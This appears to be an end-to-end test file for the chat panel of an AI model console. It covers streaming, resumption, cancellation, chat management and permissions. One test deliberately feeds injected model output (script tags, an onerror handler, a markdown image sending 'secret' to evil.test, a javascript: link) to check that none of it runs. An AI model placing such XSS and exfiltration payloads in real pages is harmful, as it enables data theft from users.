import { cut } from '../fakes/model-provider.ts'
import {
  ask,
  chats,
  composer,
  expect,
  giveKey,
  held,
  live,
  messages,
  replies,
  signInTo,
  test,
} from './support/assistant.ts'
import { visit } from './support/console.ts'

test('the sample answers from its rows by a script, says so on each reply, and keeps the chat', async ({
  page,
  story,
}) => {
  await visit(page, '/assistant', story)
  await ask(page, 'How are my agents?')
  const reply = replies(page)
  await expect(reply).toContainText('Scripted sample reply. No model was asked.')
  await expect(reply.getByRole('article', { name: /^Fleet/ })).toBeVisible()
  await expect(reply.getByRole('list').getByRole('link', { name: /^\[t1\] Fleet/ })).toBeVisible()
  await expect(page).toHaveURL(/#\/assistant\?session=/)
  await expect(composer(page)).toBeFocused()
  await expect(composer(page)).toHaveValue('')
  await expect(page.getByRole('button', { name: /^Ask/ })).toBeVisible()
  const said = (await reply.textContent()) ?? ''
  await page.reload()
  await expect(reply).toContainText('Scripted sample reply. No model was asked.')
  // The tiles come as a part of their own.
  await expect(reply.getByRole('article', { name: /^Fleet/ })).toBeVisible()
  await expect(reply).not.toContainText('loading')
  expect(((await reply.textContent()) ?? '').replace(/\d+\w* ago|now/g, '')).toBe(said.replace(/\d+\w* ago|now/g, ''))

  await ask(page, 'hello there')
  await expect(replies(page)).toHaveCount(2)
  const examples = replies(page).last().getByRole('list', { name: 'Example questions' })
  await examples.getByRole('button', { name: 'Any alerts?' }).click()
  await expect(replies(page)).toHaveCount(3)
  await expect(replies(page).last().getByRole('article', { name: /alert/i })).toBeVisible()
})

test('chats are found, renamed, archived and deleted without a mouse', async ({ page, story }) => {
  await visit(page, '/assistant', story)
  await ask(page, 'How much did we spend on Tuesday')
  await expect(replies(page).locator('[data-tile]').first()).toBeVisible()
  await expect(page.getByRole('button', { name: /^Ask/ })).toBeVisible()
  await composer(page).press('Escape')
  await page.keyboard.press('r')
  const name = page.getByRole('textbox', { name: 'Name of the chat' })
  await expect(name).toBeFocused()
  await name.fill('never mind')
  await name.press('Escape')
  const row = (title: string) => chats(page).getByRole('link', { name: new RegExp(`^${title}`) })
  await expect(row('How much did we spend on Tuesday')).toBeVisible()
  await page.keyboard.press('r')
  await name.fill('Spend of the week')
  await name.press('Enter')
  await expect(row('Spend of the week')).toBeVisible()
  await expect(page.getByRole('heading', { name: 'Spend of the week' })).toBeVisible()

  await page.keyboard.press('/')
  await page.keyboard.type('no such words')
  await expect(chats(page)).toContainText('No chat of yours has “no such words” in its name.')
  await page.getByRole('button', { name: 'Clear the search' }).click()
  await expect(row('Spend of the week')).toBeVisible()
  await page.keyboard.press('e')
  await expect(row('Spend of the week')).toBeHidden()
  await chats(page).getByRole('button', { name: 'Archived' }).click()
  await expect(row('Spend of the week')).toBeVisible()

  // The newest: nothing stands before it.
  await page.keyboard.press('k')
  await expect(row('Spend of the week')).toBeFocused()
  await page.keyboard.press('#')
  const dialog = page.getByRole('alertdialog', { name: 'Delete this chat?' })
  await expect(dialog).toContainText('All 2 messages go with it, and nobody can bring them back')
  const does = dialog.getByRole('button', { name: 'Delete chat' })
  await expect(does).toHaveAttribute('aria-disabled', 'true')
  await dialog.getByRole('textbox').fill('delete chat')
  await does.click()
  await expect(row('Spend of the week')).toHaveCount(0)
  await expect(page).not.toHaveURL(/session=/)
})

test('a link to a chat that is not one’s own opens nothing, and says nothing about it', async ({ page }) => {
  await visit(page, '/assistant?session=01HZZZZZZZZZZZZZZZZZZZZZZZ')
  await expect(page.getByRole('heading', { name: 'There is no such chat among yours' })).toBeVisible()
  await expect(messages(page)).toHaveCount(0)
  await page.getByRole('button', { name: 'Begin a new chat' }).click()
  await expect(composer(page)).toBeVisible()
})

test('without a key the way to one is shown, and nothing is made up', async ({ page, server }) => {
  await signInTo(page, server)
  await ask(page, 'How are my agents?')
  const refused = page.getByRole('alert').filter({ hasText: 'No provider key is configured' })
  await expect(refused).toHaveCount(1)
  await expect(refused.getByRole('link', { name: 'Add a provider key' })).toHaveAttribute(
    'href',
    '#/settings/ai-assistant',
  )
  await expect(composer(page)).toHaveValue('How are my agents?')
  await expect(replies(page)).toHaveCount(0)
})

test('a reply goes on after a reload where it was, with every word once', async ({ page, server, model }) => {
  await giveKey(server, model)
  const [first, second] = [held(), held()]
  model.say(async function* () {
    yield 'One. '
    await first.until
    yield 'Two. '
    await second.until
    yield 'Three.'
  })
  await signInTo(page, server)
  await ask(page, 'How are my agents?')
  await expect(replies(page)).toContainText('One.')
  await expect(page.getByRole('button', { name: /^Stop/ })).toBeVisible()
  await page.reload()
  await page.getByLabel('API key').fill(server.key)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await expect(replies(page)).toContainText('One.')
  first.let()
  await expect(replies(page)).toContainText('One. Two.')
  second.let()
  await expect(replies(page)).toContainText('One. Two. Three.')
  await expect(page.getByRole('button', { name: /^Ask/ })).toBeVisible()
  await expect(replies(page)).toHaveCount(1)
  await expect(replies(page)).not.toContainText('Cut off')
  expect((await replies(page).textContent())?.match(/One\./g)).toHaveLength(1)
})

test('a stream that breaks is taken up after the last event that was heard', async ({ page, server, model }) => {
  await giveKey(server, model)
  const rest = held()
  model.say(async function* () {
    yield 'One. '
    await rest.until
    yield 'Two.'
  })
  await signInTo(page, server)
  const resumed = page.waitForRequest((request) => /\/runs\/[^/]+\/events/.test(request.url()))
  // The page's own reader is cut off as a network would: what it has read, it has.
  await page.evaluate(() => {
    const real = window.fetch
    window.fetch = async (input, init) => {
      const answer = await real(input, init)
      if (!String(input).endsWith('/api/v1/assistant/chat') || answer.body === null) return answer
      window.fetch = real
      const reader = answer.body.getReader()
      let heard = ''
      const body = new ReadableStream({
        async pull(controller) {
          const { value } = await reader.read()
          heard += new TextDecoder().decode(value)
          if (value !== undefined) controller.enqueue(value)
          if (!heard.includes('One.')) return
          setTimeout(() => controller.error(new TypeError('network error')), 50)
          await new Promise(() => undefined)
        },
      })
      return new Response(body, { status: answer.status, headers: answer.headers })
    }
  })
  await ask(page, 'How are my agents?')
  expect(Number(await (await resumed).headerValue('last-event-id'))).toBeGreaterThan(1)
  rest.let()
  await expect(replies(page)).toContainText('One. Two.')
  await expect(replies(page)).toHaveCount(1)
  expect((await replies(page).textContent())?.match(/One\./g)).toHaveLength(1)
})

test('Esc breaks a reply off; it is kept as cut off, and can be asked again', async ({ page, server, model }) => {
  await giveKey(server, model)
  const never = held()
  model.say(async function* () {
    yield 'It began well'
    await never.until
  })
  await signInTo(page, server)
  await ask(page, 'How are my agents?')
  await expect(replies(page)).toContainText('It began well')
  await composer(page).press('Escape')
  await expect(replies(page)).toContainText('Cut off: this reply is not whole')
  never.let()
  await expect(replies(page)).toContainText('It began well')
  model.say(() => ['All of it.'])
  await replies(page).getByRole('button', { name: 'Ask again' }).click()
  await expect(replies(page)).toHaveCount(2)
  await expect(replies(page).last()).toContainText('All of it.')
  await page.reload()
  await page.getByLabel('API key').fill(server.key)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await expect(replies(page).first()).toContainText('Cut off: this reply is not whole')
  await expect(replies(page).last()).not.toContainText('Cut off')
})

test('what the provider says no to is told in its place, with what was said until then', async ({
  page,
  server,
  model,
}) => {
  await giveKey(server, model)
  model.say(() => ['Half of', cut])
  await signInTo(page, server)
  await ask(page, 'How are my agents?')
  await expect(replies(page)).toContainText('Half of')
  await expect(replies(page).getByRole('alert')).toContainText(/provider/i)
  await expect(replies(page)).toContainText('Cut off: this reply is not whole')
})

test('what a model writes runs nothing, loads nothing and leads nowhere unseen', async ({ page, server, model }) => {
  await giveKey(server, model)
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url)) outside.push(request.url())
  })
  model.say(() => [
    '<script>document.title="owned"</script>\n\n<img src="https://evil.test/a.png" onerror="document.title=1">\n\n',
    '![status](https://evil.test/b.png?d=secret) [here](https://evil.test/login) [run](javascript:alert(1))\n\n',
    '[t1]: https://evil.test/source\n\nSee [t1] and [the queue](#/deployments).\n\n```sh\nrm -rf nothing\n```\n',
  ])
  await signInTo(page, server)
  await ask(page, 'How are my agents?')
  const reply = replies(page)
  await expect(reply).toContainText('<script>document.title="owned"</script>')
  await expect(page.getByRole('button', { name: /^Ask/ })).toBeVisible()
  await expect(reply.locator('img, script, iframe, style')).toHaveCount(0)
  await expect(reply.locator('a[href^="http"], a[href^="javascript"]')).toHaveCount(0)
  await expect(reply.getByRole('link', { name: 'the queue' })).toHaveAttribute('href', '#/deployments')
  await expect(reply.locator('p').getByRole('link', { name: /^\[t1\] Fleet/ })).toHaveAttribute('href', /^#\/traces/)
  await reply.getByRole('button', { name: /^here/ }).click()
  await expect(page.getByTestId('outside-address')).toHaveText('https://evil.test/login')
  await page.getByRole('button', { name: 'Stay here' }).click()
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await reply.getByRole('button', { name: 'Copy this code' }).click()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('rm -rf nothing')
  expect(outside).toEqual([])
})

test('a question whose answer was lost is sent again under its own key', async ({ page, server, model }) => {
  await giveKey(server, model)
  model.say(() => ['Once.'])
  await signInTo(page, server)
  const keys: (string | null)[] = []
  let lost = 0
  await page.route('**/api/v1/assistant/chat', async (route) => {
    keys.push(await route.request().headerValue('idempotency-key'))
    lost += 1
    if (lost > 2) return route.continue()
    // The first time the server takes it, and its answer is lost.
    if (lost === 1) await route.fetch()
    return route.abort('connectionreset')
  })
  await ask(page, 'How are my agents?')
  await expect(replies(page)).toContainText('Once.')
  expect(keys).toHaveLength(3)
  expect(new Set(keys).size).toBe(1)
  await expect(messages(page).getByRole('article', { name: 'You' })).toHaveCount(1)
  await expect(replies(page)).toHaveCount(1)
  expect(model.asked.filter(({ messages: [system] }) => !system?.content.includes('a title of'))).toHaveLength(1)
})

test('what was begun to be written is still there after a reload', async ({ page }) => {
  await visit(page, '/assistant')
  await composer(page).fill('first line')
  await composer(page).press('Shift+Enter')
  await composer(page).pressSequentially('second')
  await page.reload()
  await expect(live(page)).toContainText('live')
  await expect(composer(page)).toHaveValue('first line\nsecond')
  await composer(page).fill('')
})

test('who may not use it is told why', async ({ page }) => {
  await page.route('**/console/session', async (route) => {
    const answer = await route.fetch()
    const session = (await answer.json()) as { permissions: Record<string, boolean> }
    await route.fulfill({
      response: answer,
      json: { ...session, permissions: { ...session.permissions, 'chat.use': false } },
    })
  })
  await visit(page, '/assistant')
  await expect(page.getByText('This needs the permission chat.use')).toBeVisible()
})
